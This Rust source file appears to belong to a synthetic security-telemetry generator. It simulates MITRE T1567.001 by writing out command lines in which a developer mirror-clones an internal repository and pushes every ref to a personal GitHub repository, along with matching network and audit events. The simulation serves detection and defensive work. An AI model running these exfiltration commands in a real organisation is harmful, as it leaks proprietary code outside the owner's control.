//! T1567.001 to a code repository: an internal repository staged and pushed
//! to a personal GitHub repository.

use super::{home, meta, pick_host, tool, work_time, Meta, Window, MB};
use crate::activity::{Account, Gh};
use crate::clock::SEC;
use crate::scene::Scene;
use crate::world::{Os, Role, GITHUB_ORG};

pub fn git_push_external(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[Role::Developer])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let user = sc.w.hosts[h].user;
    let repo = *sc.rng.pick(&crate::background::REPOS);
    let personal = format!(
        "{}{}",
        sc.rng.pick(&["dev-", "x", "code"]),
        sc.rng.base62(6).to_lowercase()
    );
    let home = home(sc, h);
    let git = "C:\\Program Files\\Git\\cmd\\git.exe";
    let sh = sc.spawn(
        t,
        h,
        Account::User(user),
        "C:\\Program Files\\Git\\git-bash.exe",
        "\"C:\\Program Files\\Git\\git-bash.exe\" --cd-to-home",
        Some("git-bash.exe"),
        None,
    );
    // Clone the internal repository fresh (from the org) ...
    let clone = tool(
        sc,
        h,
        t + 5 * SEC,
        &sh,
        git,
        &format!(
            "git clone --mirror https://github.com/{GITHUB_ORG}/{repo}.git {home}\\tmp\\{repo}.git"
        ),
        Some("git.exe"),
    );
    let s = sc.resolve(t + 6 * SEC, h, Some(&clone), "github.com");
    let size = sc.rng.range(40, 600) * MB;
    let inb = size;
    sc.connect(
        t + 7 * SEC,
        h,
        Some(&clone),
        &s,
        60_000,
        inb,
        30 * SEC,
        None,
    );
    sc.gh(
        t + 8 * SEC,
        Gh {
            user,
            ip: sc.w.hosts[h].ip.clone(),
            action: "git.clone",
            repo: format!("{GITHUB_ORG}/{repo}"),
            hook_url: None,
            visibility: None,
        },
    );
    // ... then push every ref to a personal repository.
    let t2 = t + 5 * 60 * SEC;
    tool(sc, h, t2, &sh, git, &format!("git -C {home}\\tmp\\{repo}.git remote add bk https://github.com/{personal}/{repo}-bak.git"), Some("git.exe"));
    let push = tool(
        sc,
        h,
        t2 + 20 * SEC,
        &sh,
        git,
        &format!("git -C {home}\\tmp\\{repo}.git push --mirror bk"),
        Some("git.exe"),
    );
    sc.upload(t2 + 21 * SEC, h, &push, "github.com", size, 1, 0, None, 443);
    Some(meta(sc, h, format!("{GITHUB_ORG}/{repo} mirrored and pushed to personal repository github.com/{personal}/{repo}-bak"), "T1567.001", "git", "code-repository", "github.com", "GitHub (personal account)"))
}
